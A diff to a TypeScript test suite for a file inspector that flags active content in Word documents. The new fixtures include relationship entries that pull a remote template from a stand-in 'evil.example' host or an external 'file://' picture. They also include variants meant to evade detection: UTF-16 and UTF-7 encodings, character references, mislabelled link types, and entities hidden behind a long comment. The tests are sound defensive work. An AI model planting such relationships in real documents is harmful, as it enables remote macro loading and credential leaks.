@@ -5,6 +5,7 @@ import { aDocx, aDocxWithTemplate, aJpeg, aLongPdf, aPdf, aPng, aZip, eicar } fr
 import { inspect } from './inspect.ts'
 
 const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
 const cut = (file: Buffer, by: number) => file.subarray(0, file.length - by)
 
 describe('what is taken', () => {
@@ -18,6 +19,16 @@ describe('what is taken', () => {
       aDocx('x', [{ name: 'word/media/image1.png', data: aPng() }, { name: 'word/printerSettings/printerSettings1.bin' }]),
       DOCX,
     ],
+    [
+      'one with a link, and a mark before its parts',
+      aDocx('x', [
+        {
+          name: 'word/_rels/document.xml.rels',
+          data: `\ufeff<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships><Relationship Id='r1' Type='${OFFICE}/hyperlink' Target='https://example.com/?a=1&amp;b=2' TargetMode='External'/><Relationship Id="r2" Type="${OFFICE}/image" Target="media/a.png" TargetMode="Internal"/></Relationships>`,
+        },
+      ]),
+      DOCX,
+    ],
     ['a PNG', aPng(), 'image/png'],
     ['a JPEG', aJpeg(), 'image/jpeg'],
   ])('%s', (_, file, type) => {
@@ -28,6 +39,14 @@ describe('what is taken', () => {
     expect(inspect(Buffer.concat([aPng(), aZip([{ name: 'a' }])]))).toEqual({ type: 'image/png', size: aPng().length })
   })
 })
+
+/** A Word document with one relation besides, written so. */
+const related = (relation: string, encoding: 'utf8' | 'utf16le' = 'utf8') =>
+  aDocx('x', [
+    { name: 'word/_rels/settings.xml.rels', data: Buffer.from(`${encoding === 'utf8' ? '' : '\ufeff'}<Relationships>${relation}</Relationships>`, encoding) },
+  ])
+const template = `<Relationship Id="r1" Type="${OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`
+const picture = (id = '"r1"') => `<Relationship Id=${id} Type="${OFFICE}/image" Target="file://evil/share/a.png" TargetMode="External"/>`
 
 const office = (folder: string) => aZip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: `${folder}/workbook.xml` }])
 
@@ -72,6 +91,31 @@ test.each<[string, Uint8Array, string]>([
   ['ActiveX', aDocx('x', [{ name: 'word/activeX/activeX1.xml' }]), 'active-content'],
   ['a program inside', aDocx('x', [{ name: 'word/embeddings/oleObject1.bin' }]), 'active-content'],
   ['a template from elsewhere', aDocxWithTemplate(), 'active-content'],
+  ['one in single quotes', related(template.replaceAll('"', "'")), 'active-content'],
+  ['one in UTF-16', related(template, 'utf16le'), 'active-content'],
+  ['one in UTF-16 without its mark', aDocx('x', [{ name: 'word/_rels/settings.xml.rels', data: Buffer.from(template, 'utf16le') }]), 'active-content'],
+  ['one spelt by character references', related(template.replace('/attachedTemplate', '&#x2f;attached&#84;emplate')), 'active-content'],
+  ['one of a kind nobody knows', related(template.replace('attachedTemplate', 'novelty')), 'active-content'],
+  ['a picture from elsewhere', related(picture()), 'active-content'],
+  ['one that has the word for links in another place', related(picture(`' Type="x/hyperlink"'`)), 'active-content'],
+  ['one that is two things', related(picture(`"r1" Type="x/hyperlink"`)), 'active-content'],
+  [
+    'one beside a link',
+    related(`<Relationship Id="r0" Type="${OFFICE}/hyperlink" Target="https://example.com" TargetMode="External"/>${picture()}`),
+    'active-content',
+  ],
+  [
+    'entities in UTF-16',
+    aDocx('x', [{ name: 'word/a.xml', data: Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', 'utf16le') }]),
+    'active-content',
+  ],
+  [
+    'entities behind a comment',
+    aDocx('x', [{ name: 'word/a.xml', data: `<!--${'x'.repeat(9000)}--><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>` }]),
+    'active-content',
+  ],
+  ['another alphabet', aDocx('x', [{ name: 'word/a.xml', data: Uint8Array.of(0x4c, 0x6f, 0xa7, 0x94, 0x93) }]), 'active-content'],
+  ['an encoding of its own', aDocx('x', [{ name: 'word/a.xml', data: '<?xml version="1.0" encoding="utf-7"?><a/>' }]), 'active-content'],
   ['entities', aDocx('x', [{ name: 'word/document.xml', data: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }]), 'active-content'],
   ['a PDF behind a page', aPdf('x', { before: '<html>' }), 'unknown-type'],
   [
